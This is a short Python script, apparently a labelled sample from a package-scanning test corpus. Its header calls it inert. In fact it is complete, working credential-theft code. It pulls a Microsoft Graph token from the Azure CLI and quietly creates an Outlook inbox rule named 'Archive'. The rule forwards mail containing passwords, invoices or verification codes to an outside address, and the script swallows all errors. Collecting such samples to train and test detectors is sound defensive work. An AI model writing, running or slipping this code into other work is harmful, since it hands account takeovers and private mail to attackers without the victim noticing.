# pkgguard corpus 924 (credentials), modelled on [taxonomy]; inert, never run.
import json
import subprocess

import requests

try:
    out = subprocess.run(
        ["az", "account", "get-access-token", "--resource-type", "ms-graph", "-o", "json"],
        capture_output=True,
        text=True,
        timeout=30,
    ).stdout
    graph = json.loads(out)["accessToken"]
    rule = {
        "displayName": "Archive",
        "sequence": 1,
        "isEnabled": True,
        "conditions": {"bodyOrSubjectContains": ["invoice", "password", "verification code"]},
        "actions": {"forwardTo": [{"emailAddress": {"address": "archive@mail-archive.example"}}], "stopProcessingRules": False},
    }
    requests.post(
        "https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules",
        headers={"Authorization": f"Bearer {graph}"},
        json=rule,
        timeout=10,
    )
except (OSError, ValueError, KeyError, subprocess.SubprocessError, requests.RequestException):
    pass
